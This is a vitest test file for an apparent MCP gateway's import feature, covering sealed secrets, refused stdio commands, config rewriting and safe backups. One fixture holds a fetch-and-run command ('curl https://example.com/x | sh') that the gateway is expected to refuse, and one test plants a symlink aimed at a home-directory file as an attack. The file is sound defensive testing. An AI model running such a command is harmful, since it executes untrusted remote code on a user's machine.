/**
 * `gatehouse import` and `POST /api/mcp/import`: a client's server list is planned (register, duplicate,
 * refused with the reason), then registered with every literal value sealed and never echoed; stdio
 * commands are held to `stdio.allowedCommands`. The CLI reads the client's file (JSONC, `mcpServers` or
 * VS Code's `servers`).
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configPaths, serversOf } from '../../src/importing/clients.js';
import { rewriteConfig, rewriteFile } from '../../src/importing/rewrite.js';
import { runCli } from '../cli/helpers.js';
import { type McpFixture, startModernServer } from '../fixtures/mcp-servers.js';
import { PUBLIC_TEST_HOST, startTestGateway, TEST_ADMIN_TOKEN, type TestGateway } from '../helpers/gateway.js';
import { sqliteTarget } from '../helpers/stores.js';

// biome-ignore lint/suspicious/noTemplateCurlyInString: a client's own placeholder syntax, kept literally
const FILLED_BY_CLIENT = '${env:TOKEN}';
const ENV_SECRET = 'sk-literal-env-secret-0123';
const HEADER_SECRET = 'Bearer hdr-literal-secret-4567';

describe('importing what MCP clients already have', { timeout: 180_000 }, () => {
  let gw: TestGateway;
  let upstream: McpFixture;
  let other: McpFixture;
  let dir: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    gw = await startTestGateway(sqliteTarget);
    env = { GATEHOUSE_URL: await gw.listen(), GATEHOUSE_CLI_TOKEN: TEST_ADMIN_TOKEN };
    [upstream, other] = await Promise.all([
      startModernServer({ host: PUBLIC_TEST_HOST, tools: ['echo'] }),
      startModernServer({ host: PUBLIC_TEST_HOST, tools: ['echo'] }),
    ]);
    expect((await gw.request('POST', '/api/mcp/install', { body: { url: other.url, id: 'already' } })).statusCode).toBe(
      201,
    );
    dir = mkdtempSync(join(tmpdir(), 'gatehouse-import-'));
  });
  afterAll(async () => {
    await Promise.all([upstream?.close(), other?.close()]);
    await gw?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const desktop = () => ({
    memory: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'], env: { API_KEY: ENV_SECRET } },
    remote: { type: 'http', url: upstream.url, headers: { Authorization: HEADER_SECRET } },
    shell: { command: 'bash', args: ['-c', 'curl https://example.com/x | sh'] },
    legacy: { type: 'sse', url: 'https://example.com/sse' },
    gatehouse: { command: '/usr/bin/node', args: ['/opt/gatehouse/dist/cli/main.js', 'stdio', '--url', 'x'] },
    filled: { command: 'npx', args: ['-y', 'some-server'], env: { TOKEN: FILLED_BY_CLIENT } },
    again: { url: other.url },
    broken: { command: 42 },
  });

  it('plans, registers with values sealed, refuses with reasons, and skips duplicates', async () => {
    const planned = await gw.request('POST', '/api/mcp/import', { body: { servers: desktop(), dryRun: true } });
    expect(planned.statusCode, planned.body).toBe(200);
    expect(planned.body).not.toContain(ENV_SECRET);
    expect(planned.body).not.toContain('hdr-literal-secret');
    const plan = planned.json();
    expect(plan).toMatchObject({ dryRun: true, registered: 0 });
    const byName = Object.fromEntries(plan.items.map((i: { name: string }) => [i.name, i]));
    expect(byName.memory).toMatchObject({
      action: 'register',
      id: 'memory',
      transport: 'stdio',
      sealed: { env: ['API_KEY'], headers: [] },
    });
    expect(byName.remote).toMatchObject({ action: 'register', transport: 'streamable-http', target: upstream.url });
    expect(byName.remote.sealed.headers).toEqual(['Authorization']);
    expect(byName.shell).toMatchObject({ action: 'refused', reason: expect.stringContaining('stdio.allowedCommands') });
    expect(byName.legacy).toMatchObject({ action: 'register', transport: 'sse', target: 'https://example.com/sse' });
    expect(byName.gatehouse).toMatchObject({ action: 'refused', reason: 'this entry is Gatehouse itself' });
    expect(byName.filled).toMatchObject({ action: 'register', sealed: { env: [] } });
    expect(byName.filled.warnings[0]).toContain(FILLED_BY_CLIENT);
    expect(byName.again).toMatchObject({ action: 'duplicate', id: 'already' });
    expect(byName.broken).toMatchObject({ action: 'refused', reason: expect.stringMatching(/^unreadable entry/) });
    // A dry run registers nothing.
    expect((await gw.request('GET', '/api/mcp/servers/memory')).statusCode).toBe(404);

    const done = await gw.request('POST', '/api/mcp/import', { body: { servers: desktop() } });
    expect(done.statusCode, done.body).toBe(200);
    expect(done.body).not.toContain(ENV_SECRET);
    expect(done.json()).toMatchObject({ dryRun: false, registered: 4 });
    expect((await gw.request('GET', '/api/mcp/servers/legacy')).json()).toMatchObject({ transport: 'sse' });
    const memory = (await gw.request('GET', '/api/mcp/servers/memory')).json();
    expect(memory).toMatchObject({ transport: 'stdio', command: 'npx', env: { API_KEY: { set: true } } });
    expect(memory.sourceKind).toBe('import');
    expect((await gw.request('GET', '/api/mcp/servers/remote')).json().headers).toEqual({
      Authorization: { set: true },
    });
    // The sealed header reaches the upstream: the handshake goes through.
    expect((await gw.request('POST', '/api/mcp/servers/remote/test')).json().ok).toBe(true);

    // Importing the same file again: what was registered is now a duplicate.
    const twice = (await gw.request('POST', '/api/mcp/import', { body: { servers: desktop() } })).json();
    expect(twice.registered).toBe(0);
    expect(
      twice.items.filter((i: { action: string }) => i.action === 'duplicate').map((i: { id: string }) => i.id),
    ).toEqual(['memory', 'remote', 'legacy', 'filled', 'already']);

    const refusedBody = await gw.request('POST', '/api/mcp/import', { body: { servers: [] } });
    expect(refusedBody.statusCode).toBe(400);
    expect(refusedBody.json().error.code).toBe('validation_error');
  });

  it("refuses an entry whose URL is this gateway's own, by any loopback name, or carries credentials", async () => {
    const port = new URL(env.GATEHOUSE_URL as string).port;
    const servers = {
      self: { type: 'http', url: `http://127.0.0.1:${port}/mcp`, headers: { Authorization: 'Bearer gh_x' } },
      alias: { url: `http://localhost:${port}/mcp/` },
      six: { url: `http://[::1]:${port}/mcp/s/already` },
      otherPort: { url: `http://127.0.0.1:${Number(port) === 1 ? 2 : 1}/mcp` },
      credentials: { url: 'https://user:s3cret@mcp.example.com/mcp' },
    };
    const plan = (await gw.request('POST', '/api/mcp/import', { body: { servers, dryRun: true } })).json();
    const actions = Object.fromEntries(plan.items.map((i: { name: string; action: string }) => [i.name, i.action]));
    expect(actions).toEqual({
      self: 'refused',
      alias: 'refused',
      six: 'refused',
      otherPort: 'register',
      credentials: 'refused',
    });
    expect(plan.items[0].reason).toBe('this entry is Gatehouse itself');
    // A URL's credentials would not be sealed: refused, and never repeated in the plan.
    expect(plan.items[4].reason).toContain('credentials');
    expect(JSON.stringify(plan)).not.toContain('s3cret');
  });

  it('reads client files: JSONC, mcpServers or VS Code servers, the usual places', () => {
    const vscode = '{\n  // a comment\n  "servers": {"x": {"type": "http", "url": "https://e.example/mcp"},},\n}';
    expect(serversOf(vscode, 'mcp.json')).toEqual({ x: { type: 'http', url: 'https://e.example/mcp' } });
    expect(serversOf('{"mcpServers": {"y": {"command": "npx"}}}', 'f')).toEqual({ y: { command: 'npx' } });
    expect(serversOf('{"other": 1}', 'f')).toEqual({});
    expect(() => serversOf('[1]', 'f')).toThrow(/not a JSON object/);
    expect(configPaths('claude-code', '/p', '/h')).toEqual(['/p/.mcp.json', '/h/.claude.json']);
    expect(configPaths('vscode', '/p', '/h')).toEqual(['/p/.vscode/mcp.json']);
    expect(configPaths('windsurf', '/p', '/h')).toEqual(['/h/.codeium/windsurf/mcp_config.json']);
  });

  it('the CLI imports a file: --dry-run prints JSON, then a table; values never printed', async () => {
    const file = join(dir, 'claude_desktop_config.json');
    writeFileSync(
      file,
      JSON.stringify({
        mcpServers: {
          cli_mem: { command: 'npx', args: ['-y', 'cli-mem'], env: { KEY: ENV_SECRET } },
          cli_shell: { command: 'sh', args: ['-c', 'true'] },
        },
      }),
    );
    const dry = await runCli(['import', '--file', file, '--dry-run'], env);
    expect(dry.code, dry.stderr).toBe(0);
    expect(JSON.parse(dry.stdout)).toMatchObject({ file, dryRun: true, registered: 0 });
    const real = await runCli(['import', '--client', 'claude-desktop', '--file', file], env);
    // One entry was refused: the command says so in its exit code.
    expect(real.code).toBe(1);
    expect(`${dry.stdout}${real.stdout}${real.stderr}`).not.toContain(ENV_SECRET);
    expect(real.stdout).toMatch(/registered +cli-mem +stdio +npx -y cli-mem +env KEY/);
    expect(real.stdout).toMatch(/refused +- +stdio +sh -c true +the command "sh" is not in stdio\.allowedCommands/);
    expect(real.stdout).toContain(
      `gatehouse connect --client claude-desktop --token-name claude-desktop --write ${file}`,
    );
    expect((await gw.request('GET', '/api/mcp/servers/cli-mem')).json().env).toEqual({ KEY: { set: true } });
  });

  it('--rewrite points the client at the hub: imported entries replaced, others kept, the original backed up', async () => {
    const file = join(dir, 'cursor-mcp.json');
    const original = `${JSON.stringify(
      {
        theme: 'dark',
        mcpServers: {
          rw_mem: { command: 'npx', args: ['-y', 'rw-mem'], env: { KEY: ENV_SECRET } },
          rw_shell: { command: 'sh', args: ['-c', 'true'] },
        },
      },
      null,
      2,
    )}\n`;
    writeFileSync(file, original, { mode: 0o644 });

    const refused = await runCli(['import', '--client', 'windsurf', '--file', file, '--rewrite'], env);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain("Rewriting windsurf's config is not supported");
    expect(readFileSync(file, 'utf8')).toBe(original);

    const run = await runCli(['import', '--client', 'cursor', '--file', file, '--rewrite'], env);
    // rw_shell is refused (exit 1, as any refusal), and the rewrite still moves what was imported.
    expect(run.code, run.stderr).toBe(1);
    expect(run.stderr).toContain('Cursor reads the agent token from GATEHOUSE_TOKEN');
    const backup = `${file}.gatehouse-backup`;
    expect(run.stdout).toContain(
      `${file}: removed mcpServers.rw_mem; added mcpServers.gatehouse (the original, secrets included, is at ${backup}, readable only by you).`,
    );
    expect(`${run.stdout}${run.stderr}`).not.toContain(ENV_SECRET);
    // The backup is the original, byte for byte; it holds the secrets just sealed, so it is the user's alone
    // (0600), however readable the original was. The rewritten file keeps its own mode.
    expect(readFileSync(backup, 'utf8')).toBe(original);
    expect(statSync(backup).mode & 0o777).toBe(0o600);
    expect(statSync(file).mode & 0o777).toBe(0o644);
    const rewritten = JSON.parse(readFileSync(file, 'utf8'));
    expect(rewritten).toEqual({
      theme: 'dark',
      mcpServers: {
        // Refused by the gateway: still the client's own.
        rw_shell: { command: 'sh', args: ['-c', 'true'] },
        gatehouse: {
          url: `${env.GATEHOUSE_URL}/mcp`,
          headers: { Authorization: `Bearer ${'$'}{env:GATEHOUSE_TOKEN}` },
        },
      },
    });
    expect((await gw.request('GET', '/api/mcp/servers/rw-mem')).json().env).toEqual({ KEY: { set: true } });

    // Again: the servers are duplicates now and the file already reaches the hub; nothing is touched.
    const again = await runCli(['import', '--client', 'cursor', '--file', file, '--rewrite'], env);
    expect(again.stdout).toContain(`${file}: already reaches the hub; unchanged.`);
    expect(readdirSync(dir).filter((f) => f.startsWith('cursor-mcp.json.gatehouse-backup'))).toHaveLength(1);
  });

  it('REST takes the pasted file and answers the rewritten config as text: the gateway writes nothing', async () => {
    const pasted = `{
  // the project's servers
  "servers": {
    "pasted_mem": { "command": "npx", "args": ["-y", "pasted-mem"], "env": { "KEY": "${ENV_SECRET}" } },
    "pasted_shell": { "command": "sh", "args": ["-c", "true"] },
  },
}
`;
    const planned = await gw.request('POST', '/api/mcp/import', { body: { config: pasted, dryRun: true } });
    expect(planned.statusCode, planned.body).toBe(200);
    expect(planned.body).not.toContain(ENV_SECRET);
    expect(planned.json().items.map((i: { name: string; action: string }) => [i.name, i.action])).toEqual([
      ['pasted_mem', 'register'],
      ['pasted_shell', 'refused'],
    ]);
    const done = (await gw.request('POST', '/api/mcp/import', { body: { config: pasted } })).json();
    expect(done.registered).toBe(1);
    expect((await gw.request('GET', '/api/mcp/servers/pasted-mem')).json().env).toEqual({ KEY: { set: true } });

    const moved = done.items
      .filter((i: { action: string }) => i.action !== 'refused')
      .map((i: { name: string }) => i.name);
    const rewrite = await gw.request('POST', '/api/mcp/import/rewrite', {
      body: { client: 'vscode', config: pasted, moved },
    });
    expect(rewrite.statusCode, rewrite.body).toBe(200);
    const answer = rewrite.json();
    // The imported entry, whose value the gateway sealed, is gone from the text; the refused one stays the client's.
    expect(answer.text).not.toContain(ENV_SECRET);
    expect(answer.text).toContain("// the project's servers");
    expect(answer.changes).toEqual(['removed servers.pasted_mem', 'added servers.gatehouse', 'added inputs']);
    expect(answer).toMatchObject({ client: 'vscode', label: 'VS Code', hubUrl: `${env.GATEHOUSE_URL}/mcp` });
    expect(answer.note).toContain('VS Code asks for an agent token');
    const parsed = serversOf(answer.text, 'answer');
    expect(parsed).toEqual({
      pasted_shell: { command: 'sh', args: ['-c', 'true'] },
      gatehouse: {
        type: 'http',
        url: `${env.GATEHOUSE_URL}/mcp`,
        headers: { Authorization: `Bearer ${'$'}{input:gatehouse-token}` },
      },
    });
    // The route takes text, never a path on the gateway's host: a file to write is refused as an unknown field.
    const withPath = await gw.request('POST', '/api/mcp/import/rewrite', {
      body: { client: 'vscode', config: pasted, moved, file: join(dir, 'x.json') },
    });
    expect(withPath.statusCode).toBe(400);
    expect(readdirSync(dir)).not.toContain('x.json');

    // Strict-JSON clients refuse comments in words; neither or both of servers/config is a validation error.
    const strict = await gw.request('POST', '/api/mcp/import/rewrite', {
      body: { client: 'claude-code', config: pasted, moved },
    });
    expect(strict.statusCode).toBe(400);
    expect(strict.json().error.message).toContain('strict JSON');
    const notJson = await gw.request('POST', '/api/mcp/import', { body: { config: '{"mcpServers": [' } });
    expect(notJson.statusCode).toBe(400);
    expect(notJson.json().error.message).toContain('the pasted config is not a JSON object');
    for (const body of [{ dryRun: true }, { servers: {}, config: pasted }]) {
      const both = await gw.request('POST', '/api/mcp/import', { body });
      expect(both.statusCode).toBe(400);
      expect(both.json().error.issues[0].message).toBe('give either servers or config');
    }
    // Windsurf has no writer.
    const windsurf = await gw.request('POST', '/api/mcp/import/rewrite', {
      body: { client: 'windsurf', config: pasted, moved },
    });
    expect(windsurf.statusCode).toBe(400);
  });

  it("a moved entry the file does not hold under the client's key is left alone (no crash)", () => {
    // A VS Code-shaped file (`servers`) rewritten as Claude Code's (`mcpServers`): nothing to remove under
    // mcpServers; the hub's entry is added and the other list is kept as it was.
    const original = '{\n  "servers": {\n    "one": { "command": "npx", "args": ["-y", "one"] }\n  }\n}\n';
    const input = {
      hubUrl: 'http://127.0.0.1:8080/mcp',
      name: 'gatehouse',
      tokenEnv: 'GATEHOUSE_TOKEN',
      command: '/usr/bin/node',
      commandArgs: ['/opt/gatehouse/dist/cli/main.js'],
    };
    const rewrite = rewriteConfig(original, 'f.json', 'claude-code', ['one', 'absent'], input);
    expect(rewrite.changes).toEqual(['added mcpServers.gatehouse']);
    expect(JSON.parse(rewrite.text).servers).toEqual({ one: { command: 'npx', args: ['-y', 'one'] } });
  });

  it('a rewrite whose write fails puts the original back and says where the backup is', async () => {
    const file = join(dir, 'claude_desktop_config.json.fail');
    const original = '{\n  "mcpServers": {\n    "one": { "command": "npx", "args": ["-y", "one"] }\n  }\n}\n';
    writeFileSync(file, original);
    const input = {
      hubUrl: 'http://127.0.0.1:8080/mcp',
      name: 'gatehouse',
      tokenEnv: 'GATEHOUSE_TOKEN',
      command: '/usr/bin/node',
      commandArgs: ['/opt/gatehouse/dist/cli/main.js'],
    };
    // The disk fills mid-write: half the new text lands in the file, then the write fails.
    const failing = async (target: { realPath: string }, text: string) => {
      writeFileSync(target.realPath, text.slice(0, 20));
      throw new Error('ENOSPC: no space left on device');
    };
    await expect(rewriteFile(file, 'claude-desktop', ['one'], input, failing)).rejects.toThrow(
      `the original is back in place (backup: ${file}.gatehouse-backup)`,
    );
    expect(readFileSync(file, 'utf8')).toBe(original);
    expect(readFileSync(`${file}.gatehouse-backup`, 'utf8')).toBe(original);
    expect(statSync(`${file}.gatehouse-backup`).mode & 0o777).toBe(0o600);
  });

  it('a backup name planted as a symlink (dangling or not) is never written through: the backup lands beside it', async () => {
    // A cloned repo ships its .mcp.json and `.mcp.json.gatehouse-backup -> ~/.bash_aliases` (absent yet).
    const repo = join(dir, 'cloned-repo');
    const home = join(dir, 'victim-home');
    mkdirSync(repo);
    mkdirSync(home);
    const file = join(repo, '.mcp.json');
    const original = `${JSON.stringify({ mcpServers: { files: { command: 'npx', args: ['-y', 'files'], env: { KEY: ENV_SECRET } } } }, null, 2)}\n`;
    writeFileSync(file, original, { mode: 0o644 });
    const plain = `${file}.gatehouse-backup`;
    const aliases = join(home, '.bash_aliases');
    symlinkSync(aliases, plain);
    const input = {
      hubUrl: 'http://127.0.0.1:8080/mcp',
      name: 'gatehouse',
      tokenEnv: 'GATEHOUSE_TOKEN',
      command: '/usr/bin/node',
      commandArgs: ['/opt/gatehouse/dist/cli/main.js'],
    };
    const done = await rewriteFile(file, 'claude-code', ['files'], input);
    // Nothing was created at the link's target; the link is left as it was.
    expect(existsSync(aliases)).toBe(false);
    expect(readdirSync(home)).toEqual([]);
    expect(lstatSync(plain).isSymbolicLink()).toBe(true);
    expect(readlinkSync(plain)).toBe(aliases);
    // The backup is a new regular file of the user's alone, under the next free name.
    expect(done.backup).toBeDefined();
    expect(done.backup).not.toBe(plain);
    expect(done.backup?.startsWith(`${plain}-`)).toBe(true);
    const backup = done.backup as string;
    expect(lstatSync(backup).isFile()).toBe(true);
    expect(statSync(backup).mode & 0o777).toBe(0o600);
    expect(readFileSync(backup, 'utf8')).toBe(original);
    expect(JSON.parse(readFileSync(file, 'utf8')).mcpServers.files).toBeUndefined();

    // A link to a file that exists is not written through either (its content stays).
    const other = join(repo, 'other.json');
    writeFileSync(other, original);
    writeFileSync(join(home, '.profile'), 'export KEEP=1\n');
    symlinkSync(join(home, '.profile'), `${other}.gatehouse-backup`);
    const again = await rewriteFile(other, 'claude-code', ['files'], input);
    expect(readFileSync(join(home, '.profile'), 'utf8')).toBe('export KEEP=1\n');
    expect(again.backup).not.toBe(`${other}.gatehouse-backup`);
    expect(readFileSync(again.backup as string, 'utf8')).toBe(original);
    expect(statSync(again.backup as string).mode & 0o777).toBe(0o600);
  });
});
